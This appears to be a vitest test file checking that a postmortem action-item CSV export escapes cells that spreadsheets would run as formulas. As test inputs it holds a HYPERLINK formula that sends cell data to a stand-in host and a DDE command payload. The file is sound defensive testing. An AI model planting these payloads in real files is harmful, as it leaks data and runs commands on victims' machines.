import { describe, expect, it } from 'vitest';
import { csvField, EXPORT_COLUMNS, toCsv, type ExportedActionItem } from '../../../src/lib/trends/follow-through.ts';

const item = (overrides: Partial<ExportedActionItem>): ExportedActionItem => ({
  due: '2026-11-01',
  overdue: false,
  priority: 'P2',
  status: 'open',
  title: 'Alert on stale bundles',
  kind: 'detect',
  owner: 'platform',
  team: 'platform',
  ticket: null,
  incident: '2025-06-21-checkout-500s',
  incident_title: 'Checkout returned 500s',
  incident_url: 'https://postmortems.example.com/incidents/2025-06-21-checkout-500s/',
  ...overrides,
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('start with a quote mark when they begin with =, +, -, @, a tab or a carriage return', () => {
    expect(csvField('=1+2')).toBe("'=1+2");
    expect(csvField('+44 20 7946 0000')).toBe("'+44 20 7946 0000");
    expect(csvField('-1 retries')).toBe("'-1 retries");
    expect(csvField('@ops-oncall')).toBe("'@ops-oncall");
    expect(csvField('\t=cmd')).toBe("'\t=cmd");
    expect(csvField('\r=cmd')).toBe('"\'\r=cmd"');
  });

  it('are quoted as well when they hold a quote, a comma or a line break', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe('"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"');
  });

  it('leave other text, and those characters later in a cell, as they are', () => {
    expect(csvField('Rate limit = 300 a minute, not 6,000')).toBe('"Rate limit = 300 a minute, not 6,000"');
    expect(csvField('P1')).toBe('P1');
    expect(csvField('2026-11-01')).toBe('2026-11-01');
    expect(csvField(true)).toBe('true');
    expect(csvField(null)).toBe('');
    expect(csvField('')).toBe('');
  });

  it('make a whole row safe: the title, the owner and the incident title', () => {
    const csv = toCsv([item({ title: "=cmd|' /C calc'!A0", owner: '@mbello', incident_title: '-2 minutes of data' })]);
    expect(csv).toBe(
      `${EXPORT_COLUMNS.join(',')}\r\n` +
        "2026-11-01,false,P2,open,'=cmd|' /C calc'!A0,detect,'@mbello,platform,,2025-06-21-checkout-500s,'-2 minutes of data," +
        'https://postmortems.example.com/incidents/2025-06-21-checkout-500s/\r\n',
    );
  });
});
